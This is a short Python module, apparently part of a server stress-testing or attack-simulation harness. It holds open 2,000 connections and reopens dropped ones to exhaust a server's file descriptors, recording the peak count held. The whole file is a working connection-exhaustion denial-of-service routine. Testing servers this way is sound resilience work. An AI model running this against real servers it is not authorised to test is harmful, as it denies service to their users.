"""More connections than the server has file descriptors."""

import asyncio
import contextlib

from attacks.attacker import Attacker
from attacks.connection import Connection

CONNECTIONS = 2_000
_OPENED_A_SECOND = 400
_MAX_OPENING = 100


async def connections(attacker: Attacker) -> None:
    """Hold 2,000 connections open, and open those again that the server closes."""
    held: set[Connection] = set()
    opening: set[asyncio.Task[None]] = set()

    async def connect() -> None:
        with contextlib.suppress(OSError):
            held.add(await attacker.connect())

    async for due in attacker.ticks(_OPENED_A_SECOND):
        held = {connection for connection in held if not connection.lost}
        attacker.figures["held"] = max(len(held), attacker.figures.get("held", 0))
        for _ in range(due):
            if len(held) + len(opening) < CONNECTIONS and len(opening) < _MAX_OPENING:
                task = asyncio.create_task(connect())
                opening.add(task)
                task.add_done_callback(opening.discard)
